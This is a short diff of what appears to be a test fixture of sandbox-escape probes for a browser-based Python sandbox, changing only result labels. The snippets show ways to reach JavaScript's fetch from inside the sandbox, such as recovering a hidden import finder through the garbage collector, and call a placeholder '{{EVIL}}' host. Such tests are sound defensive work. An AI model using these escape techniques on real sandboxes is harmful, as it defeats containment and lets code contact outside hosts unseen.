@@ -3,7 +3,7 @@ from js import fetch
 won = 'ESCAPED ' + str(fetch('{{EVIL}}/js'))
 
 #: js-finder
-won = 'ESCAPED ' + str(browser().fetch('{{EVIL}}/finder'))
+won = 'fetch gave ' + str(browser().fetch('{{EVIL}}/finder'))
 
 #: pyfetch
 import asyncio
@@ -41,7 +41,7 @@ import sys
 finder = next(one for one in gc.get_objects() if type(one).__name__ == 'JsFinder')
 sys.meta_path.insert(0, finder)
 import js
-won = 'ESCAPED ' + str(js.fetch('{{EVIL}}/again'))
+won = 'fetch gave ' + str(js.fetch('{{EVIL}}/again'))
 
 #: module-of-the-loader
 import gc
